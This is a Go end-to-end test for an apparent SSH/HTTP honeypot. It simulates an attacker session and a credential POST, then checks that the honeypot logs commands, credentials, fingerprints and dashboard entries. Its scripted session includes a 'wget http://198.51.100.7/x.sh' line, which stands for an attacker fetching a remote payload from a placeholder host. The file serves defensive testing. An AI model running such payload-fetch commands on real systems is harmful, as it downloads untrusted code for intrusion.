package e2e_test

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/cmd/decnet/instance"
	"github.com/decnet/decnet/pkg/decnet"
)

const (
	username = "root"
	secret   = "Summer2026!"
	// soon is how fast an attack is to be seen.
	soon = time.Second
)

var script = []string{"id", "uname -a", "wget http://198.51.100.7/x.sh", "exit"}

// ssh logs in with the real OpenSSH client.
func ssh(t *testing.T, s decnet.ServiceState, stdin string, args ...string) string {
	t.Helper()
	return sshWith(t, s, stdin, args, nil)
}

// sshRun logs in and has one command run.
func sshRun(t *testing.T, s decnet.ServiceState, command string) string {
	t.Helper()
	return sshWith(t, s, "", nil, []string{command})
}

func sshWith(t *testing.T, s decnet.ServiceState, stdin string, options, command []string) string {
	t.Helper()
	all := slices.Concat([]string{
		"-p", secret, "ssh", "-p", fmt.Sprint(s.Port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10",
	}, options, []string{username + "@" + s.Address.String()}, command)
	out, _ := run(t, stdin, "sshpass", all...)
	return out
}

func TestAnAttackIsSeenWithinASecond(t *testing.T) {
	need(t, "ssh", "sshpass", "curl", "chromium")
	i := start(t, t.TempDir(), instance.Options{})
	at := service(t, i, "ssh")
	web := service(t, i, "http")
	page := openDashboard(t, i)

	forms := []struct {
		name string
		run  func() string
	}{
		{"as one command", func() string { return sshRun(t, at, strings.Join(script, "; ")) }},
		{"typed without a terminal", func() string { return ssh(t, at, strings.Join(script, "\n")+"\n", "-T") }},
		{"typed into a terminal", func() string { return ssh(t, at, strings.Join(script, "\n")+"\n", "-tt") }},
	}
	commands, attempts := 0, 0
	for _, form := range forms {
		t.Run(form.name, func(t *testing.T) {
			out := form.run()
			if !strings.Contains(out, "uid=0(root)") || !strings.Contains(out, "Linux") || !strings.Contains(out, "GNU/Linux") {
				t.Fatalf("the shell answered %q", out)
			}
			commands, attempts = commands+len(script), attempts+1
			var have []decnet.Event
			eventually(t, soon, "the session's end is stored", func() bool {
				have = events(t, i, "&service=ssh&kind=disconnect")
				return len(have) == attempts
			})
			session := "&session=" + have[len(have)-1].Session
			var ran []string
			for _, e := range events(t, i, session+"&kind=command") {
				ran = append(ran, e.Fields[decnet.FieldCommand])
			}
			if !slices.Equal(ran, script) {
				t.Errorf("commands are %q, want %q", ran, script)
			}
			tried := events(t, i, session+"&kind=auth_attempt")
			if len(tried) != 1 || tried[0].Fields[decnet.FieldPrincipal] != username || tried[0].Fields[decnet.FieldSecret] != secret || tried[0].Source.String() != "127.0.0.1" {
				t.Errorf("attempts are %+v", tried)
			}
		})
	}

	body, err := run(t, "", "curl", "-sS", "-A", "probe/1.0", "-H", "X-Forwarded-For: 10.9.8.7", "-d", "username=admin&password=hunter2", fmt.Sprintf("http://%s:%d/login", web.Address, web.Port))
	if err != nil || body == "" {
		t.Fatalf("curl: %v: %s", err, body)
	}
	eventually(t, soon, "the request is stored", func() bool { return len(events(t, i, "&service=http&kind=request")) == 1 })
	request := events(t, i, "&service=http&kind=request")[0]
	if request.Fields["method"] != "POST" || request.Fields["path"] != "/login" || request.Fields["user_agent"] != "probe/1.0" {
		t.Errorf("the request is %+v", request.Fields)
	}

	var p struct {
		ID, Address string
		decnet.Profile
	}
	eventually(t, soon, "the profile is complete", func() bool {
		err := i.Get(t.Context(), "/attackers/127.0.0.1", &p)
		return err == nil && p.CommandCount == uint64(commands) && p.Services["http"] > 0 && len(p.Credentials) == 2
	})
	if p.Credentials[0].Principal != username || p.Credentials[0].Secret != secret || p.Credentials[0].Attempts != uint64(attempts) || !p.Credentials[0].Accepted {
		t.Errorf("the first credential is %+v", p.Credentials[0])
	}
	if p.Credentials[1].Principal != "admin" || p.Credentials[1].Secret != "hunter2" || p.Credentials[1].Accepted {
		t.Errorf("the second credential is %+v", p.Credentials[1])
	}
	everyEventOnce(t, i)
	checkBounties(t, i, uint64(attempts))
	page.shows(soon, "127.0.0.1", "root / "+secret, "$ uname -a", "$ wget http://198.51.100.7/x.sh", "POST /login")
	page.open("/attackers/7f000001")
	page.shows(5*time.Second, "hunter2", secret, "uname -a", "wget http://198.51.100.7/x.sh", "probe/1.0")
	page.open("/bounties")
	page.shows(5*time.Second, "10.9.8.7", "ssh_client_version", "http://198.51.100.7/x.sh", "127.0.0.1")
}

// checkBounties checks what was learned of an attacker who ran the script some
// times and asked for a page once, and that every field was of its type.
func checkBounties(t *testing.T, i *instance.Instance, times uint64) {
	t.Helper()
	var list struct{ Items []decnet.Bounty }
	if err := i.Get(t.Context(), "/bounties?attacker=127.0.0.1", &list); err != nil {
		t.Fatal(err)
	}
	want := map[string]uint64{
		"fingerprint/ssh_client_version": times, "fingerprint/hassh": times, "artifact/url": times, "fingerprint/http_useragent": 1,
		"fingerprint/spoofed_source": 1, "fingerprint/http_quirks": 1, "ip_leak/x-forwarded-for": 1,
	}
	have := map[string]uint64{}
	for _, b := range list.Items {
		have[string(b.Type)+"/"+b.Name] += b.Count
	}
	if !maps.Equal(have, want) {
		t.Errorf("bounties are %v, want %v", have, want)
	}
	var h struct{ Workers []decnet.Health }
	eventually(t, 10*time.Second, "the ingester says that no field is mistyped", func() bool {
		err := i.Get(t.Context(), "/health", &h)
		k := slices.IndexFunc(h.Workers, func(w decnet.Health) bool { return w.Worker == "ingester" })
		if err != nil || k < 0 {
			return false
		}
		n, ok := h.Workers[k].Counters["fields_mistyped"]
		return ok && n == 0
	})
}

// everyEventOnce checks that ids are unique and that the attacker's timeline is
// numbered without gaps in the order of the list.
func everyEventOnce(t *testing.T, i reader) {
	t.Helper()
	ids := map[string]bool{}
	for n, e := range events(t, i, "&attacker=127.0.0.1") {
		if ids[e.ID] {
			t.Errorf("event %s is there twice", e.ID)
		}
		ids[e.ID] = true
		if e.Seq != uint64(n+1) {
			t.Errorf("event %d has number %d", n+1, e.Seq)
		}
	}
}
